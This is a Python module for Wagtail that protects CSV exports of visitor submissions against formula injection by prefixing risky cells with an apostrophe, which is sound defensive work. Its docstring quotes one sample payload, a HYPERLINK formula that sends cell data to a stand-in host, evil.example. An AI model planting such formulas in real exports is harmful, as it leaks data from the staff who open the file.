"""Spreadsheet exports of what visitors typed (submissions, comments, registrations,
subscribers) that a spreadsheet cannot run.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before
one) is a formula to Excel, LibreOffice and Google Sheets: a visitor's name such as
``=HYPERLINK("https://evil.example/?"&A2, "Click")`` would run when staff open the CSV
export. Such cells get a leading apostrophe, which spreadsheets show as text (OWASP's
advice for CSV injection). Wagtail's XLSX export already stores every cell as text.
"""

from __future__ import annotations

from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value: Any) -> Any:
    """``value``, with an apostrophe in front when a spreadsheet would read it as a
    formula; other values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin`` (model index views, form
    submission listings): every CSV cell is neutralised after Wagtail's own
    preprocessing, whatever the type of the value it came from."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise_formula(
                    self.preprocess_field_value(field, value, self.FORMAT_CSV)
                )
                for field, value in row_dict.items()
            }
        )
